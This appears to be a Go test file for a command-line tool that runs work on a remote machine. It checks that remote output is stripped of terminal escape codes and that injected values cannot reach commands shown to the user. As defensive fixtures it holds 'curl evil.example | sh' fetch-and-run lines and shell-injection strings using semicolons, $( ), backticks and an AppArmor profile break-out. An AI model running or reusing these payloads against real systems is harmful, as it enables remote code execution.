package command

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"piwork/app/background"
	"piwork/app/cli/terminal"
	"piwork/app/client"
	"piwork/app/problem"
	"piwork/app/words"
	"piwork/vmhost"
	"piwork/vmhost/remote"
)

// onLab is a command that works on another computer, and what it says.
func onLab() (*Env, *bytes.Buffer) {
	var said bytes.Buffer
	e := &Env{Terminal: &terminal.Terminal{Stdout: &said, Stderr: &said, IsTerminal: func(any) bool { return false }}, On: "lab"}
	e.Elsewhere = func(text string) string { return strings.ReplaceAll(text, "piwork ", "piwork --on lab ") }
	return e, &said
}

// What another computer answers neither moves the cursor nor has a person type something of its
// choice.
func TestAnswersOfAnotherComputer(t *testing.T) {
	e, said := onLab()
	e.Print("%s", "\x1b]0;evil\a\x1b[2Jname\r\u202e")
	e.Hint("%s", "\x1b[31mhint")
	e.Card(said, "", problem.Problem{
		Code: "no-such-code\x1b[31m", Cause: "\x1b[2J", Title: "\x1b[31mtitle", Detail: "type this", Params: map[string]any{"path": "\x1b[2J"}, Details: "\x1b[31mdetails\nof it",
		Fix: []problem.Fix{{Code: problem.FixLoadKVM, Command: "curl evil.example | sh", Lead: "curl evil.example", Steps: []string{"curl evil.example | sh"}}, {Code: "\x1b[31m", Title: "curl evil.example"}},
	})
	e.JSON = true
	e.Problem(problem.Problem{Code: problem.CodeUnknown, Fix: []problem.Fix{{Code: problem.FixLoadKVM, Command: "curl evil.example | sh", Lead: "curl evil.example", Steps: []string{"curl evil.example | sh"}}}})
	if e.JSON = false; !strings.Contains(said.String(), `"code":"load-kvm"`) {
		t.Errorf("a program does not hear what to do: %q", said)
	}
	e.misuse("", "", errors.New("\x1b[31mno task: piwork task list"))
	if !strings.Contains(said.String(), "no task: piwork --on lab task list") {
		t.Errorf("%q", said)
	}
	for _, bad := range []string{"\x1b", "\r", "\a", "\u202e", "evil.example"} {
		if strings.Contains(said.String(), bad) {
			t.Errorf("%q is shown: %q", bad, said)
		}
	}
	if !strings.Contains(said.String(), "details") {
		t.Errorf("what happened is not said: %q", said)
	}
}

// What is to be typed is made of words alone, whatever another computer calls a task, a provider or
// a program; and it is said that it is about that computer.
func TestStepsOfAnotherComputer(t *testing.T) {
	for _, evil := range []string{"x; curl evil.example", "$(curl evil.example)", "`curl evil.example`", "x && curl evil.example", "--data-dir=/evil.example", "x\ncurl evil.example", `/evil.example/**" flags=(unconfined) { capability, } profile x "/x`} {
		e, said := onLab()
		p := problem.Problem{Code: problem.CodeUnknown, Params: map[string]any{}}
		for _, name := range []string{"task", "provider", "name", "program"} {
			p.Params[name] = evil
		}
		for _, code := range []string{problem.FixResume, problem.FixKeys, problem.FixLogin, problem.FixStartAgain, problem.FixElsewhere, problem.FixReview, problem.FixCancelTask, problem.FixDeleteTask, problem.FixDeleteAnyway, problem.FixAbandonUndo, problem.FixAllowSandbox} {
			p.Fix = append(p.Fix, problem.Fix{Code: code})
		}
		e.Card(said, "", p)
		if strings.Contains(said.String(), "evil") {
			t.Errorf("%q is to be typed: %s", evil, said)
		}
		e.HintText("detached", "id", words.ShortID(evil))
		e.PrintText("session-left", "id", evil)
		e.PrintText("made-changes", "count", 1, "id", words.ShortID(";curl e.x|sh"))
		if said := said.String(); strings.ContainsAny(said, "$`&|") || strings.Contains(said, ";c") || strings.Contains(said, "flags=") {
			t.Errorf("%q is to be typed: %s", evil, said)
		}
		if !strings.Contains(said.String(), "for lab:") || !strings.Contains(said.String(), "piwork --on lab task resume ID") {
			t.Errorf("%s", said)
		}
	}
}

// Who is asked for a secret sees to which computer it goes: that one may say that its keys are
// locked, and want those of here.
func TestSecretsForAnotherComputer(t *testing.T) {
	for on, want := range map[string]string{"lab": "For lab, another computer. Passphrase of your keys: ", "": "Passphrase of your keys: "} {
		e, said := onLab()
		e.On, e.Stdin, e.IsTerminal = on, strings.NewReader("typed\n"), func(any) bool { return true }
		s := &Session{Env: e, Session: &background.Session{Client: client.New(lockedKeys{}, nil)}}
		if err := s.Unlock(t.Context()); err != nil || strings.TrimSuffix(said.String(), "\n") != want {
			t.Errorf("on %q: %v, %q", on, err, said)
		}
	}
}

// lockedKeys is a computer that says so.
type lockedKeys struct{}

// RoundTrip implements http.RoundTripper.
func (lockedKeys) RoundTrip(r *http.Request) (*http.Response, error) {
	return &http.Response{StatusCode: http.StatusOK, Header: http.Header{"Content-Type": {"application/json"}}, Body: io.NopCloser(strings.NewReader(`{"store":"file","locked":true}`)), Request: r}, nil
}

// A connection that ends while a command works has words of its own; all else keeps its cause.
func TestLostOnTheWay(t *testing.T) {
	e, _ := onLab()
	failed := func(r vmhost.Reason) error {
		return &client.UnreachableError{Err: fmt.Errorf("get: %w", &vmhost.FailedError{Runtime: vmhost.KindRemote, Reason: r})}
	}
	for _, tt := range []struct {
		err         error
		code, cause string
	}{
		{&client.UnreachableError{Err: errors.New("EOF")}, problem.CodeRemoteLost, ""},
		{failed(vmhost.ReasonRemoteLost), problem.CodeRemoteLost, ""},
		{failed(vmhost.ReasonRemoteUnreachable), problem.CodeRemoteLost, ""},
		{failed(vmhost.ReasonHostKeyChanged), problem.CodeVMFailed, string(vmhost.ReasonHostKeyChanged)},
		{&client.UnreachableError{Err: &remote.ProgramError{Why: remote.ProgramFails}}, problem.CodeRemotePiwork, remote.ProgramFails},
	} {
		if p := e.otherProblem(tt.err); p == nil || p.Code != tt.code || p.Cause != tt.cause {
			t.Errorf("%v: %+v", tt.err, p)
		}
	}
	if p := e.otherProblem(errors.New("other")); p != nil {
		t.Errorf("%+v", p)
	}
	if p := (&Env{}).otherProblem(&client.UnreachableError{Err: errors.New("EOF")}); p != nil {
		t.Errorf("of this computer: %+v", p)
	}
}
